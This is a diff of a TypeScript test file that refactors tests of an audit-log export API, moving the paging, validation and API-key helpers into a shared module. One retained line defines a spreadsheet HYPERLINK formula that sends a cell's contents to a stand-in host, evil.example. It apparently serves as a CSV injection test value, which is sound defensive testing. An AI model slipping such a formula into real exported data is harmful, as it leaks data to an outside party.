@@ -1,20 +1,11 @@
 import { setTimeout as sleep } from 'node:timers/promises'
-import type { LightMyRequestResponse } from 'fastify'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { AuditActor } from '../../src/domain/audit/audit-event.js'
 import { createAuditLogRepository } from '../../src/storage/sql/audit-log-repository.js'
 import { parseCsv } from '../helpers/csv.js'
-import { asBrowser, asScript, createTestAccount, createTestSite, randomClientAddress, type CreatedSite, type TestAccount } from '../helpers/dashboard-client.js'
+import { asBrowser, asScript, createTestAccount, createTestSite, type CreatedSite, type TestAccount } from '../helpers/dashboard-client.js'
+import { createReadOnlyKey, expectValidationError, listAllPages, ndjsonLines, type AuditEvent } from '../helpers/log-export.js'
 import { buildTestApp, deployments, type TestApp } from '../helpers/test-app.js'
-
-interface AuditEvent {
-  id: string
-  createdAt: string
-  action: string
-  actor: { type: string; id: string | null; name: string | null; keyPrefix: string | null; clientIp: string | null; userAgent: string | null }
-  site: { id: string; name: string } | null
-  details: Record<string, unknown>
-}
 
 const COLUMNS = ['id', 'createdAt', 'action', 'actorType', 'actorId', 'actorName', 'actorKeyPrefix', 'clientIp', 'userAgent', 'siteId', 'siteName', 'details']
 const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
@@ -68,20 +59,9 @@ describe.each(deployments)('exports of the audit log on $name', ({ available, op
   const exportOf = (query: string, headers: Record<string, string> = asBrowser(account)) =>
     service.app.inject({ method: 'GET', url: `/api/v1/audit-log/export${query}`, headers })
 
-  /** Every event the listing answers for the query (starting with &), page after page. */
-  const listAll = async (query: string, headers: Record<string, string> = asBrowser(account)): Promise<AuditEvent[]> => {
-    const events: AuditEvent[] = []
-    let cursor: string | null = null
-    do {
-      const response: LightMyRequestResponse = await service.app.inject({ method: 'GET', url: `/api/v1/audit-log?limit=200${query}${cursor === null ? '' : `&cursor=${cursor}`}`, headers })
-      expect(response.statusCode, response.body).toBe(200)
-      const page = response.json<{ items: AuditEvent[]; nextCursor: string | null }>()
-      events.push(...page.items)
-      cursor = page.nextCursor
-    } while (cursor !== null)
-    return events
-  }
-  const linesOf = (body: string) => body.trimEnd().split('\n').map((line) => JSON.parse(line) as AuditEvent)
+  /** Every event the listing answers for the query (starting with &). */
+  const listAll = (query: string, headers: Record<string, string> = asBrowser(account)) => listAllPages<AuditEvent>(service.app, `/api/v1/audit-log?${query}`, headers)
+  const linesOf = (body: string) => ndjsonLines<AuditEvent>(body)
 
   it.skipIf(!available)('answers a CSV file of every event, newest first, each once, as the listing has them', async () => {
     const response = await exportOf('')
@@ -135,10 +115,7 @@ describe.each(deployments)('exports of the audit log on $name', ({ available, op
     ['?siteId=not-a-site', 'querystring.siteId'],
     ['?action=site.painted', 'querystring.action'],
   ])('answers 400 validation_error for %s', async (query, field) => {
-    const response = await exportOf(query)
-    expect(response.statusCode, response.body).toBe(400)
-    expect(response.json().error.code).toBe('validation_error')
-    expect(response.json().error.details).toContainEqual(expect.objectContaining({ field }))
+    expectValidationError(await exportOf(query), field)
   })
 
   it.skipIf(!available)("answers 401 without credentials, and only the account's own events to another account", async () => {
@@ -151,15 +128,7 @@ describe.each(deployments)('exports of the audit log on $name', ({ available, op
   })
 
   it.skipIf(!available)('lets a read-only API key export', async () => {
-    const created = await service.app.inject({
-      method: 'POST',
-      url: '/api/v1/api-keys',
-      headers: asBrowser(account),
-      payload: { name: 'exporter', access: 'read', password: account.password },
-      remoteAddress: randomClientAddress(),
-    })
-    expect(created.statusCode, created.body).toBe(201)
-    const response = await exportOf('?action=api_key.created', { authorization: `Bearer ${created.json<{ key: string }>().key}` })
+    const response = await exportOf('?action=api_key.created', { authorization: `Bearer ${await createReadOnlyKey(service.app, account)}` })
     expect(response.statusCode, response.body).toBe(200)
     expect(parseCsv(response.body).map((record) => record[COLUMNS.indexOf('action')])).toEqual(['action', 'api_key.created', 'api_key.created'])
   })
